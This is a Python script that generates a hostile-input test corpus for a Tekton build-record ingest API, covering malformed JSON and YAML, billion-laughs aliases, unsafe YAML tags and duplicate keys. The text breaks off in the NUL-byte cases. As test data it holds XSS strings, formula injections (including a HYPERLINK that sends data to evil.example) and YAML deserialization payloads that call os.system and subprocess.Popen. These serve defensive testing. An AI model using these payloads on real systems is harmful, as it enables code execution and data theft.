#!/usr/bin/env python3
"""Write the hostile-input corpus: ``cases/*`` and ``INDEX.json`` (issue 7, docs/reliability.md).

Run it from anywhere with the project's venv (it needs PyYAML only)::

    .venv/bin/python tests/data/hostile/make_corpus.py

The output is deterministic: the same script writes the same bytes, so ``git diff`` after a run
shows exactly what changed. Each case is one file; ``INDEX.json`` lists, for each file, its
category and what the ingest endpoint must do with it:

* ``reject``: a 4xx (``status``, 400 unless said) whose JSON body is ``{"error": "..."}`` with a
  message containing one of ``error`` (case-insensitive), and no row written;
* ``store``: a 202, every object stored exactly as posted (``RunRecord.document``), and each
  record settled after compute (signed, or skipped/waiting/failed with a stored reason).

``payloads`` are hostile strings the case carries that must come back verbatim (never HTML-escaped
or otherwise rewritten); ``echo`` are those the API must return as they are (in the ingest
response or the signed statement).

Bodies too big to keep in git (oversized, 10k-level nesting, 200k-element arrays) are stored as a
tiny ``*.gen.json`` descriptor, and :func:`generated_body` builds the bytes at test time.
"""

from __future__ import annotations

import copy
import json
import sys
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
CASES = HERE / "cases"
NS = "team-a"
DIGEST = "c74017f50715d715f7c91b3d6c909ca230249d8c4d256aca4476eb4a039d3684"
DIGEST_B = "6084e539f2d6e98c7843034953ca924755b529ebac428d500a25d8243fabab17"
COMMIT = "732b3489dede8eaf222fc050f8ac27429250c066"
IMAGE = "registry.acme.dev/web/docs-site"

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(document.domain)",
]
XSS_EXTRA = [
    "</script><script>alert(1)</script>",
    "{{ 7*7 }}{% debug %}${7*7}",
    "<svg/onload=alert(1)>",
    "'-alert(1)-'",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
]


# ---------------------------------------------------------------------------------------------
# Base records: small, shaped like the samples (provenance/samples), valid as they are.


def uid(seed: str, part: str = "") -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_URL, f"chainsweb-hostile/{seed}/{part}"))


def taskrun(seed: str, name: str = "kaniko-build-k4x7v") -> dict[str, Any]:
    """A standalone TaskRun that succeeded and names one image."""
    return {
        "apiVersion": "tekton.dev/v1",
        "kind": "TaskRun",
        "metadata": {
            "name": name,
            "namespace": NS,
            "uid": uid(seed),
            "resourceVersion": "2210987",
            "labels": {
                "app.kubernetes.io/managed-by": "tekton-pipelines",
                "tekton.dev/task": "kaniko-chains",
            },
            "annotations": {"pipeline.tekton.dev/release": "v0.68.1"},
        },
        "spec": {
            "params": [
                {"name": "IMAGE", "value": f"{IMAGE}:2026-03-04"},
                {"name": "CHAINS-GIT_URL", "value": "https://github.com/acme/docs-site"},
                {"name": "CHAINS-GIT_COMMIT", "value": COMMIT},
            ],
            "serviceAccountName": "default",
            "taskRef": {"kind": "Task", "name": "kaniko-chains"},
            "timeout": "1h0m0s",
        },
        "status": {
            "conditions": [
                {
                    "type": "Succeeded",
                    "status": "True",
                    "reason": "Succeeded",
                    "message": "All Steps have completed executing",
                    "lastTransitionTime": "2026-03-04T08:31:12Z",
                }
            ],
            "podName": f"{name}-pod",
            "startTime": "2026-03-04T08:30:00Z",
            "completionTime": "2026-03-04T08:31:12Z",
            "results": [
                {"name": "IMAGE_DIGEST", "type": "string", "value": f"sha256:{DIGEST}"},
                {"name": "IMAGE_URL", "type": "string", "value": f"{IMAGE}:2026-03-04"},
            ],
            "steps": [
                {
                    "name": "build-and-push",
                    "container": "step-build-and-push",
                    "imageID": f"gcr.io/kaniko-project/executor@sha256:{DIGEST_B}",
                    "terminated": {"exitCode": 0, "reason": "Completed"},
                }
            ],
            "taskSpec": {
                "params": [{"name": "IMAGE", "type": "string"}],
                "results": [
                    {"name": "IMAGE_DIGEST", "type": "string"},
                    {"name": "IMAGE_URL", "type": "string"},
                ],
                "steps": [
                    {
                        "name": "build-and-push",
                        "image": "gcr.io/kaniko-project/executor:v1.23.2",
                        "args": ["--destination=$(params.IMAGE)"],
                    }
                ],
            },
        },
    }


def pipeline(seed: str, name: str = "build-push-r8x2k") -> dict[str, Any]:
    """A ``kind: List`` with a succeeded PipelineRun and its two TaskRuns (clone, build)."""
    pr_uid = uid(seed, "pr")
    condition = {
        "type": "Succeeded",
        "status": "True",
        "reason": "Succeeded",
        "message": "Tasks Completed: 2 (Failed: 0, Cancelled 0), Skipped: 0",
        "lastTransitionTime": "2026-03-02T09:16:40Z",
    }
    pr = {
        "apiVersion": "tekton.dev/v1",
        "kind": "PipelineRun",
        "metadata": {
            "name": name,
            "namespace": NS,
            "uid": pr_uid,
            "resourceVersion": "884213",
            "labels": {"tekton.dev/pipeline": "build-push"},
        },
        "spec": {
            "pipelineRef": {"name": "build-push"},
            "params": [{"name": "repo-url", "value": "https://github.com/acme/storefront"}],
            "taskRunTemplate": {"serviceAccountName": "build-bot"},
            "timeouts": {"pipeline": "1h0m0s"},
        },
        "status": {
            "conditions": [condition],
            "startTime": "2026-03-02T09:14:05Z",
            "completionTime": "2026-03-02T09:16:40Z",
            "pipelineSpec": {
                "params": [{"name": "repo-url", "type": "string"}],
                "tasks": [
                    {
                        "name": "clone",
                        "taskRef": {"kind": "Task", "name": "git-clone"},
                        "params": [{"name": "url", "value": "$(params.repo-url)"}],
                    },
                    {
                        "name": "build",
                        "runAfter": ["clone"],
                        "taskRef": {"kind": "Task", "name": "buildah"},
                        "params": [
                            {"name": "IMAGE", "value": "ghcr.io/acme/storefront"},
                            {"name": "CHAINS-GIT_URL", "value": "$(tasks.clone.results.url)"},
                            {
                                "name": "CHAINS-GIT_COMMIT",
                                "value": "$(tasks.clone.results.commit)",
                            },
                        ],
                    },
                ],
            },
            "childReferences": [
                {
                    "apiVersion": "tekton.dev/v1",
                    "kind": "TaskRun",
                    "name": f"{name}-{task}",
                    "pipelineTaskName": task,
                }
                for task in ("clone", "build")
            ],
            "results": [],
        },
    }
    children = []
    for task, definition, results in (
        (
            "clone",
            "git-clone",
            [
                {"name": "commit", "type": "string", "value": COMMIT},
                {"name": "url", "type": "string", "value": "https://github.com/acme/storefront"},
            ],
        ),
        (
            "build",
            "buildah",
            [
                {"name": "IMAGE_DIGEST", "type": "string", "value": f"sha256:{DIGEST}"},
                {"name": "IMAGE_URL", "type": "string", "value": "ghcr.io/acme/storefront"},
            ],
        ),
    ):
        children.append(
            {
                "apiVersion": "tekton.dev/v1",
                "kind": "TaskRun",
                "metadata": {
                    "name": f"{name}-{task}",
                    "namespace": NS,
                    "uid": uid(seed, task),
                    "resourceVersion": "884300" if task == "clone" else "884400",
                    "labels": {
                        "tekton.dev/pipeline": "build-push",
                        "tekton.dev/pipelineRun": name,
                        "tekton.dev/pipelineTask": task,
                        "tekton.dev/task": definition,
                    },
                    "ownerReferences": [
                        {
                            "apiVersion": "tekton.dev/v1",
                            "kind": "PipelineRun",
                            "name": name,
                            "uid": pr_uid,
                            "controller": True,
                        }
                    ],
                },
                "spec": {
                    "taskRef": {"kind": "Task", "name": definition},
                    "serviceAccountName": "build-bot",
                },
                "status": {
                    "conditions": [dict(condition, message="All Steps have completed executing")],
                    "startTime": "2026-03-02T09:14:10Z",
                    "completionTime": "2026-03-02T09:16:30Z",
                    "results": results,
                    "steps": [
                        {
                            "name": task,
                            "container": f"step-{task}",
                            "imageID": f"docker.io/library/alpine@sha256:{DIGEST_B}",
                        }
                    ],
                },
            }
        )
    return {"apiVersion": "v1", "kind": "List", "items": [pr, *children]}


# ---------------------------------------------------------------------------------------------
# The case list


class Corpus:
    def __init__(self) -> None:
        self.cases: list[dict[str, Any]] = []
        self.files: dict[str, bytes] = {}

    def add(
        self,
        category: str,
        slug: str,
        body: Any,
        expect: str,
        note: str,
        *,
        error: list[str] | None = None,
        status: int | None = None,
        payloads: list[str] | None = None,
        echo: list[str] | None = None,
        ext: str | None = None,
        compute: str | None = None,
        format: str | None = None,
        last_wins: dict[str, Any] | None = None,
    ) -> None:
        assert expect in ("reject", "store"), expect
        assert (expect == "reject") == bool(error), (slug, "reject cases name the error")
        if isinstance(body, dict | list):
            data = json.dumps(body, ensure_ascii=True).encode() + b"\n"
            ext = ext or "json"
        elif isinstance(body, str):
            data = body.encode("utf-8", "surrogatepass")
        else:
            data = bytes(body)
        assert ext is not None, slug
        name = f"{category}--{slug}.{ext}"
        assert name not in self.files, name
        self.files[name] = data
        entry: dict[str, Any] = {
            "file": f"cases/{name}",
            "category": category,
            "expect": expect,
            "note": note,
        }
        if error:
            entry["error"] = error
            entry["status"] = status or 400
        if payloads:
            entry["payloads"] = payloads
        if echo:
            entry["echo"] = echo
        if compute:
            entry["compute"] = compute
        if format:
            entry["format"] = format
        if last_wins:
            entry["last_wins"] = last_wins
        self.cases.append(entry)

    def gen(
        self, category: str, slug: str, recipe: dict[str, Any], expect: str, note: str, **kw: Any
    ) -> None:
        """A case whose body is built at test time by :func:`generated_body`."""
        body = json.dumps(recipe, indent=1, sort_keys=True).encode() + b"\n"
        self.add(category, slug, body, expect, note, ext="gen.json", **kw)


def mutated(base: dict[str, Any], change: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    doc = copy.deepcopy(base)
    change(doc)
    return doc


def sub(text: Any, old: Any, new: Any, count: int = -1) -> Any:
    """``text.replace(old, new, count)``, refusing a no-op (a case must differ from its base)."""
    assert old in text, (old, text[:200])
    return text.replace(old, new, count)


def yaml_dump(obj: Any) -> str:
    import yaml

    return yaml.safe_dump(obj, sort_keys=False, allow_unicode=False, width=1000)


INVALID_JSON = ["invalid JSON"]
INVALID_YAML = ["invalid YAML"]
NOT_UTF8 = ["UTF-8", "invalid JSON"]
NOT_TEKTON = ["not a Tekton TaskRun or PipelineRun"]
NO_OBJECTS = ["holds no objects", "is empty"]
DEEP = ["nested too deeply", "depth limit", "too deep"]
NUL = ["NUL", "\\x00", "null character"]
SURROGATE = ["surrogate", "UTF-8", "unicode"]
TOO_LONG = ["too long"]
NAMESPACE = ["namespace"]
NON_JSON = ["not JSON", "not a JSON", "unsupported", "JSON value", "not representable"]


def build() -> Corpus:  # noqa: C901 - one flat list of cases reads best
    c = Corpus()
    tr = taskrun("base")
    tr_json = json.dumps(tr, indent=1).encode()
    tr_yaml = yaml_dump(tr)

    # --- malformed JSON ------------------------------------------------------------------
    cat = "malformed-json"
    raw_cases: list[tuple[str, bytes, list[str], str]] = [
        ("empty-body", b"", ["is empty"], "no bytes at all"),
        ("whitespace-only", b" \n\t\r\n  ", ["is empty"], "only whitespace"),
        ("open-brace", b"{", INVALID_JSON, "a lone opening brace"),
        ("close-brace", b"}", INVALID_YAML, "a lone closing brace (not JSON, so read as YAML)"),
        ("trailing-comma", b'{"kind": "TaskRun", "status": {},}', INVALID_JSON, "trailing comma"),
        ("single-quotes", b"{'kind': 'TaskRun'}", INVALID_JSON, "single-quoted strings"),
        ("unquoted-keys", b"{kind: TaskRun}", INVALID_JSON, "JS-style unquoted keys"),
        ("line-comment", b'{"kind": "TaskRun" // c\n}', INVALID_JSON, "a // comment"),
        ("block-comment", b'{/* c */ "kind": "TaskRun"}', INVALID_JSON, "a /* */ comment"),
        ("nan-literal", b'{"kind": "TaskRun", "x": NaN}', INVALID_JSON, "NaN is not JSON"),
        ("infinity", b'{"kind": "TaskRun", "x": -Infinity}', INVALID_JSON, "Infinity"),
        ("huge-exponent", b'{"kind": "TaskRun", "x": 1e999}', INVALID_JSON, "overflows a double"),
        ("leading-zero", b'{"kind": "TaskRun", "x": 0123}', INVALID_JSON, "octal-looking number"),
        ("hex-number", b'{"kind": "TaskRun", "x": 0x1F}', INVALID_JSON, "hex number"),
        ("bad-escape", b'{"kind": "Task\\qRun"}', INVALID_JSON, "unknown escape \\q"),
        ("short-unicode-escape", b'{"kind": "\\u12"}', INVALID_JSON, "\\u with 2 hex digits"),
        ("raw-control-char", b'{"kind": "Task\x01Run"}', INVALID_JSON, "raw U+0001 in a string"),
        ("raw-newline-in-string", b'{"kind": "Task\nRun"}', INVALID_JSON, "raw newline in string"),
        ("two-objects", tr_json + tr_json, INVALID_JSON, "two objects back to back, no array"),
        ("trailing-garbage", tr_json + b"\nxyz", INVALID_JSON, "a valid record, then garbage"),
        ("missing-colon", b'{"kind" "TaskRun"}', INVALID_JSON, "missing colon"),
        ("unclosed-string", b'{"kind": "TaskRun}', INVALID_JSON, "string never closed"),
        ("array-unclosed", b"[" + tr_json, INVALID_JSON, "array never closed"),
        ("empty-array", b"[]", NO_OBJECTS, "an empty JSON array"),
        ("empty-object", b"{}", NOT_TEKTON, "an object with no kind"),
        ("null", b"null", ["expected an object", "holds no objects"], "JSON null"),
        ("json-string", b'"TaskRun"', ["expected an object"], "a bare JSON string"),
        ("json-number", b"42", ["expected an object"], "a bare number"),
        ("json-true", b"true", ["expected an object"], "a bare boolean"),
        ("array-of-scalars", b"[1, 2, 3]", ["expected an object"], "array of numbers"),
        (
            "array-of-arrays",
            b"[[" + tr_json + b"]]",
            ["expected an object"],
            "a record inside two arrays",
        ),
    ]
    for slug, body, error, note in raw_cases:
        c.add(cat, slug, body, "reject", note, error=error, ext="json")

    # --- truncated ---------------------------------------------------------------------
    cat = "truncated"
    for fraction in (0.02, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99):
        cut = int(len(tr_json) * fraction)
        c.add(
            cat,
            f"json-at-{int(fraction * 100):02d}pct",
            tr_json[:cut],
            "reject",
            f"the TaskRun cut after {cut} of {len(tr_json)} bytes",
            error=INVALID_JSON,
            ext="json",
        )
    cut = len(tr_json) - 2
    c.add(
        cat,
        "json-missing-last-brace",
        tr_json[:cut],
        "reject",
        "all but the closing brace",
        error=INVALID_JSON,
        ext="json",
    )
    utf8_name = json.dumps(mutated(tr, lambda d: d["metadata"].update(name="caf\u00e9")))
    utf8_bytes = sub(utf8_name, "\\u00e9", "\u00e9").encode()
    split_at = utf8_bytes.index("\u00e9".encode()) + 1
    c.add(
        cat,
        "json-mid-utf8-sequence",
        utf8_bytes[:split_at],
        "reject",
        "cut in the middle of a 2-byte UTF-8 sequence",
        error=INVALID_JSON,
        ext="json",
    )
    cut = int(len(tr_yaml) * 0.3)
    c.add(
        cat,
        "yaml-at-30pct",
        tr_yaml[:cut],
        "reject",
        f"the TaskRun as YAML cut after {cut} characters, mid-line",
        error=INVALID_YAML,
        ext="yaml",
    )
    cut = sub(tr_yaml, "\nstatus:", "@@", 1).index("@@") + 1
    c.add(
        cat,
        "yaml-before-status",
        tr_yaml[:cut],
        "reject",
        f"the TaskRun as YAML cut after {cut} characters, just before `status:`",
        error=["has no status"],
        ext="yaml",
    )
    cut = sub(tr_yaml, "  taskSpec:", "@@", 1).index("@@")
    c.add(
        cat,
        "yaml-before-task-spec",
        tr_yaml[:cut],
        "store",
        f"the TaskRun as YAML cut after {cut} characters, at a line break before taskSpec: "
        "YAML has no end marker, so this is a valid, smaller record and is stored as such",
        ext="yaml",
    )
    c.add(
        cat,
        "yaml-open-flow-mapping",
        tr_yaml + "extra: {a: 1, b: [2\n",
        "reject",
        "an unclosed flow mapping at the end",
        error=INVALID_YAML,
        ext="yaml",
    )
    c.add(
        cat,
        "yaml-open-quote",
        tr_yaml + 'extra: "never closed\n',
        "reject",
        "an unclosed double-quoted scalar",
        error=INVALID_YAML,
        ext="yaml",
    )

    # --- malformed YAML ------------------------------------------------------------------
    cat = "malformed-yaml"
    yaml_bad: list[tuple[str, str, list[str], str]] = [
        ("tab-indent", sub(tr_yaml, "\n  ", "\n\t", 3), INVALID_YAML, "tabs used to indent"),
        ("bad-indent", "kind: TaskRun\n metadata:\n   name: x\n", INVALID_YAML, "indent mismatch"),
        ("colon-in-plain", "kind: TaskRun: x\n", INVALID_YAML, "mapping value where none fits"),
        ("scalar-only", "TaskRun\n", ["expected an object"], "a bare scalar document"),
        ("sequence-of-scalars", "- a\n- b\n", ["expected an object"], "list of strings"),
        ("only-separators", "---\n---\n...\n", NO_OBJECTS, "documents that are all empty"),
        ("comment-only", "# nothing here\n", NO_OBJECTS, "a comment and nothing else"),
        (
            "doc-bad-second",
            tr_yaml + "---\nkind: Pod\nmetadata: {name: p}\n",
            NOT_TEKTON,
            "a good document followed by a Pod",
        ),
        (
            "doc-bad-syntax-second",
            tr_yaml + "---\nkey: [unclosed\n",
            INVALID_YAML,
            "a good document followed by broken YAML: nothing is stored",
        ),
        ("directive-bad", "%YAML 9.9\n---\nkind: TaskRun\n", INVALID_YAML, "unknown YAML version"),
        ("reserved-at", "kind: @TaskRun\n", INVALID_YAML, "@ cannot start a plain scalar"),
        ("backtick", "kind: `TaskRun`\n", INVALID_YAML, "` cannot start a plain scalar"),
        ("bad-anchor-name", "kind: &\n", INVALID_YAML, "an empty anchor"),
    ]
    for slug, text, error, note in yaml_bad:
        c.add(cat, slug, text, "reject", note, error=error, ext="yaml")
    c.add(
        cat,
        "anchor-without-alias",
        sub(tr_yaml, "metadata:\n", "metadata: &meta\n", 1),
        "store",
        "an anchor that nothing refers to is harmless",
        ext="yaml",
    )
    c.add(
        cat,
        "multi-doc-with-empties",
        "---\n---\n" + tr_yaml + "...\n---\n# trailing comment\n",
        "store",
        "empty documents around a good one are skipped",
        ext="yaml",
    )
    c.add(
        cat,
        "explicit-str-tag",
        sub(tr_yaml, "resourceVersion: '2210987'", "resourceVersion: !!str 2210987"),
        "store",
        "!!str is a standard tag and gives the string",
        ext="yaml",
    )
    c.add(
        cat,
        "crlf-line-endings",
        sub(tr_yaml, "\n", "\r\n"),
        "store",
        "Windows line endings",
        ext="yaml",
    )
    c.add(
        cat,
        "utf8-bom-json",
        b"\xef\xbb\xbf" + tr_json,
        "store",
        "a UTF-8 byte order mark before JSON (read as YAML, which allows it)",
        ext="json",
    )

    # --- YAML anchors and aliases ----------------------------------------------------------
    cat = "yaml-alias"
    laughs = ["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i, letter in enumerate("bcdefghi"):
        prev = "abcdefghi"[i]
        laughs.append(f"{letter}: &{letter} [{', '.join(['*' + prev] * 9)}]")
    c.add(
        cat,
        "billion-laughs",
        "apiVersion: tekton.dev/v1\nkind: TaskRun\n" + "\n".join(laughs) + "\n",
        "reject",
        "9^9 expansion through nested aliases",
        error=["aliases are not accepted"],
        ext="yaml",
    )
    c.add(
        cat,
        "billion-laughs-in-list",
        "- &a [x, x, x, x, x, x, x, x, x, x]\n- &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
        "- &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\n- [*c, *c, *c, *c, *c, *c, *c, *c]\n",
        "reject",
        "alias expansion in a top-level sequence",
        error=["aliases are not accepted"],
        ext="yaml",
    )
    c.add(
        cat,
        "merge-key",
        sub(tr_yaml, "metadata:\n", "meta0: &m {labels: {x: y}}\nmetadata:\n  <<: *m\n", 1),
        "reject",
        "the << merge key needs an alias",
        error=["aliases are not accepted"],
        ext="yaml",
    )
    c.add(
        cat,
        "alias-shared-status",
        tr_yaml + "status2: &s {a: 1}\nstatus3: *s\n",
        "reject",
        "a plain alias to a mapping",
        error=["aliases are not accepted"],
        ext="yaml",
    )
    c.add(
        cat,
        "recursive-anchor",
        "kind: TaskRun\nstatus: &s\n  self: *s\n",
        "reject",
        "an alias to its own enclosing node (a cycle)",
        error=["aliases are not accepted"],
        ext="yaml",
    )
    c.add(
        cat,
        "alias-as-key",
        "kind: TaskRun\nx: &k name\n*k : value\n",
        "reject",
        "an alias used as a mapping key",
        error=["aliases are not accepted"],
        ext="yaml",
    )
    c.add(
        cat,
        "undefined-alias",
        "kind: TaskRun\nstatus: *nope\n",
        "reject",
        "an alias to an anchor that does not exist",
        error=["aliases are not accepted", "invalid YAML"],
        ext="yaml",
    )
    c.add(
        cat,
        "alias-in-second-doc",
        tr_yaml + "---\nkind: TaskRun\nmetadata: &m {name: a}\nspec: *m\n",
        "reject",
        "an alias in a later document: the whole body is refused",
        error=["aliases are not accepted"],
        ext="yaml",
    )

    # --- YAML tags ---------------------------------------------------------------------
    cat = "yaml-tags"
    python_tags = [
        ("python-object-apply", "!!python/object/apply:os.system ['echo pwned']"),
        ("python-object-new", "!!python/object/new:subprocess.Popen [['id']]"),
        ("python-object", "!!python/object:__main__.Evil {x: 1}"),
        ("python-name", "!!python/name:os.system"),
        ("python-module", "!!python/module:os"),
        ("python-tuple", "!!python/tuple [1, 2]"),
        ("python-bytes", "!!python/bytes aGVsbG8="),
        ("ruby-object", "!ruby/object:Gem::Installer {i: x}"),
        ("local-custom-tag", "!Ref SomeParameter"),
        ("cloudformation-getatt", "!GetAtt Bucket.Arn"),
        ("verbatim-tag", "!<tag:yaml.org,2002:python/object/apply:os.system> ['id']"),
        ("java-class", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]"),
    ]
    for slug, value in python_tags:
        c.add(
            cat,
            slug,
            tr_yaml + f"evil: {value}\n",
            "reject",
            f"custom tag {value.split()[0]} must not construct anything",
            error=["could not determine a constructor", "invalid YAML"],
            ext="yaml",
        )
    c.add(
        cat,
        "tag-directive-python",
        "%TAG !e! tag:yaml.org,2002:python/object/apply:\n---\n"
        + tr_yaml
        + "evil: !e!os.system ['id']\n",
        "reject",
        "a %TAG directive that maps a handle onto python/object/apply",
        error=["could not determine a constructor", "invalid YAML"],
        ext="yaml",
    )
    non_json_tags = [
        ("binary", "!!binary aGVsbG8gd29ybGQ=", "bytes"),
        ("set", "!!set {a, b}", "a Python set"),
        ("omap", "!!omap [{a: 1}, {b: 2}]", "a list of tuples"),
        ("pairs", "!!pairs [{a: 1}, {a: 2}]", "a list of tuples"),
        ("timestamp", "!!timestamp 2026-03-04T08:30:00Z", "a datetime"),
        ("date", "!!timestamp 2026-03-04", "a date"),
    ]
    for slug, value, what in non_json_tags:
        c.add(
            cat,
            f"non-json-{slug}",
            sub(tr_yaml, "status:\n", f"status:\n  extra: {value}\n", 1),
            "reject",
            f"{value.split()[0]} builds {what}, which JSON cannot hold (the raw record is JSON)",
            error=NON_JSON,
            ext="yaml",
        )

    # --- YAML values JSON cannot hold ----------------------------------------------------
    cat = "yaml-types"
    yaml_types = [
        ("nan", "status:\n  extra: .nan\n", "a NaN float"),
        ("inf", "status:\n  extra: -.inf\n", "an infinite float"),
        ("int-key", "status:\n  1: one\n", "an integer mapping key"),
        ("bool-key-on", "status:\n  on: push\n", "`on:` is a YAML 1.1 boolean key"),
        ("null-key", "status:\n  ~: nothing\n", "a null mapping key"),
        ("float-key", "status:\n  1.5: x\n", "a float mapping key"),
        ("bigint", "status:\n  extra: 123456789012345678901234567890\n", "an int past 64 bits"),
        ("label-int-key", None, "an integer label key"),
    ]
    for slug, insert, note in yaml_types:
        if insert is None:
            text = sub(tr_yaml, "  labels:\n", "  labels:\n    42: answer\n", 1)
        else:
            text = sub(tr_yaml, "status:\n", insert, 1)
        c.add(cat, slug, text, "reject", note, error=NON_JSON, ext="yaml")
    c.add(
        cat,
        "complex-key",
        "kind: TaskRun\n? [a, b]\n: value\n",
        "reject",
        "a sequence as a mapping key",
        error=["unsupported mapping key"],
        ext="yaml",
    )
    c.add(
        cat,
        "yes-no-values",
        sub(
            tr_yaml,
            "status:\n",
            "status:\n  flagA: yes\n  flagB: off\n  octal: 0o17\n  hex: 0x1F\n",
            1,
        ),
        "store",
        "YAML 1.1 booleans and hex numbers in values become JSON true/false/31",
        ext="yaml",
    )

    # --- duplicate keys -------------------------------------------------------------------
    cat = "duplicate-keys"
    status_text = json.dumps(tr["status"])
    meta_text = json.dumps(tr["metadata"])
    body_wo_status = json.dumps({k: v for k, v in tr.items() if k != "status"})[:-1]
    # Stored, the last value winning as in Go's encoding/json (which Chains decodes with), so the
    # statement is Chains' for the same bytes; the stored record is re-serialised from the
    # parsed object, so it holds each key once. `last_wins`: dotted path -> the value stored.
    dup_json: list[tuple[str, str, str, dict[str, Any], dict[str, Any]]] = [
        (
            "json-status-twice",
            body_wo_status + ', "status": {"conditions": []}, "status": ' + status_text + "}",
            "two `status` keys: the first says nothing ran, the second that it succeeded",
            {"status.conditions.0.status": "True"},
            {"compute": "signed"},
        ),
        (
            "json-kind-twice",
            '{"kind": "Pod", ' + json.dumps(tr)[1:],
            "kind Pod, then kind TaskRun: a proxy reading the first key sees a Pod",
            {"kind": "TaskRun"},
            {"compute": "signed"},
        ),
        (
            "json-uid-twice",
            sub(
                json.dumps(tr),
                '"uid": "',
                '"uid": "00000000-0000-0000-0000-000000000000", "uid": "',
                1,
            ),
            "two metadata.uid values: which record is this?",
            {"metadata.uid": tr["metadata"]["uid"]},
            {},
        ),
        (
            "json-name-twice",
            sub(json.dumps(tr), '"name": "kaniko-build-k4x7v"', '"name": "a", "name": "b"', 1),
            "two metadata.name values",
            {"metadata.name": "b"},
            {},
        ),
        (
            "json-digest-twice",
            sub(
                json.dumps(tr),
                '"value": "sha256:' + DIGEST + '"',
                '"value": "sha256:' + DIGEST + '", "value": "sha256:' + DIGEST_B + '"',
            ),
            "two values for IMAGE_DIGEST: the second is the one signed",
            {"status.results.0.value": "sha256:" + DIGEST_B},
            {"payloads": [DIGEST_B], "echo": [DIGEST_B]},
        ),
        (
            "json-metadata-twice",
            '{"metadata": ' + meta_text + ", " + json.dumps(tr)[1:],
            "the whole metadata object twice",
            {"metadata.name": tr["metadata"]["name"]},
            {},
        ),
    ]
    for slug, text, note, wins, extra in dup_json:
        c.add(cat, slug, text, "store", f"{note} (stored, the last value winning)", ext="json",
              last_wins=wins, **extra)  # fmt: skip
    dup_yaml = [
        ("yaml-status-twice", tr_yaml + "status: {}\n", "two top-level status keys"),
        ("yaml-name-twice", sub(tr_yaml, "  name: ", "  name: a\n  name: ", 1), "two names"),
        ("yaml-label-twice", sub(tr_yaml, "  labels:\n", "  labels:\n    a: 1\n    a: 2\n", 1),
         "a label key twice"),
        ("yaml-flow-dup", "kind: TaskRun\nx: {a: 1, a: 2}\n", "duplicate in a flow mapping"),
        ("yaml-bool-dup", "kind: TaskRun\ntrue: a\nyes: b\n", "`true` and `yes` are one key"),
        ("yaml-int-dup", "kind: TaskRun\n1: a\n0x1: b\n", "`1` and `0x1` are one key"),
    ]  # fmt: skip
    for slug, text, note in dup_yaml:
        # YAML reads `true`/`yes` and `1`/`0x1` as non-string keys, refused before the duplicate.
        c.add(
            cat,
            slug,
            text,
            "reject",
            note,
            error=["duplicate key", "unsupported mapping key"],
            ext="yaml",
        )

    # --- case-variant keys ------------------------------------------------------------------
    cat = "case-variant-keys"

    def rename_top(old: str, new: str) -> Callable[[dict[str, Any]], None]:
        def change(d: dict[str, Any]) -> None:
            d[new] = d.pop(old)

        return change

    variant_rejects = [
        ("Status-only", rename_top("status", "Status"), ["has no status"], "`Status`, no status"),
        ("STATUS-only", rename_top("status", "STATUS"), ["has no status"], "`STATUS`"),
        ("KIND-only", rename_top("kind", "KIND"), NOT_TEKTON, "`KIND`, no kind"),
        ("Kind-only", rename_top("kind", "Kind"), NOT_TEKTON, "`Kind`, no kind"),
        ("Metadata-only", rename_top("metadata", "Metadata"), ["metadata.name is missing"],
         "`Metadata`: the record has no name"),
        ("kind-lowercase", lambda d: d.update(kind="taskrun"), NOT_TEKTON, "kind: taskrun"),
        ("kind-uppercase", lambda d: d.update(kind="TASKRUN"), NOT_TEKTON, "kind: TASKRUN"),
        ("kind-padded", lambda d: d.update(kind=" TaskRun"), NOT_TEKTON, "kind with a space"),
        ("apiversion-mixed-case", lambda d: d.update(apiVersion="Tekton.dev/v1"),
         ["unsupported apiVersion"], "Tekton.dev/v1"),
        ("apiversion-trailing-space", lambda d: d.update(apiVersion="tekton.dev/v1 "),
         ["unsupported apiVersion"], "a trailing space"),
        ("uid-variant-only", lambda d: d["metadata"].update(UID=d["metadata"].pop("uid")),
         ["metadata.uid is missing"], "`UID`, no uid"),
    ]  # fmt: skip
    for slug, change, error, note in variant_rejects:
        c.add(cat, slug, mutated(tr, change), "reject", note, error=error)
    variant_stores = [
        ("status-and-Status", lambda d: d.update(Status={"conditions": []}),
         "both `status` and `Status`: the exact-case key is used, the other is kept as data"),
        ("kind-and-KIND", lambda d: d.update(KIND="Pod"), "`KIND: Pod` beside `kind: TaskRun`"),
        ("Results-variant", lambda d: d["status"].update(Results=d["status"]["results"]),
         "`Results` beside `results`"),
        ("condition-type-lowercase",
         lambda d: d["status"]["conditions"][0].update(type="succeeded"),
         "type: succeeded is not the Succeeded condition: the run is not done"),
        ("condition-status-TRUE", lambda d: d["status"]["conditions"][0].update(status="TRUE"),
         "status TRUE is not True: the run is not done"),
        ("label-key-variant", lambda d: d["metadata"]["labels"].update(
            {"Tekton.dev/PipelineTask": "build", "TEKTON.DEV/PIPELINERUN": "x"}),
         "case variants of the pipeline labels do not make it a child"),
        ("result-name-lowercase", lambda d: d["status"]["results"].append(
            {"name": "image_digest", "value": "sha256:" + DIGEST_B}),
         "image_digest is not IMAGE_DIGEST"),
    ]  # fmt: skip
    for slug, change, note in variant_stores:
        c.add(cat, slug, mutated(tr, change), "store", note)

    # --- NUL bytes ---------------------------------------------------------------------
    cat = "nul-bytes"
    nul_rejects = [
        ("name", lambda d: d["metadata"].update(name="kaniko\u0000build"), "NUL in metadata.name"),
        ("namespace", lambda d: d["metadata"].update(namespace="team-a\u0000"), "in namespace"),
        ("uid", lambda d: d["metadata"].update(uid=d["metadata"]["uid"] + "\u0000"), "in uid"),
        ("resource-version", lambda d: d["metadata"].update(resourceVersion="1\u00002"),
         "in resourceVersion"),
        ("label-value", lambda d: d["metadata"]["labels"].update(team="a\u0000b"),
         "in a label value (labels are stored as jsonb)"),
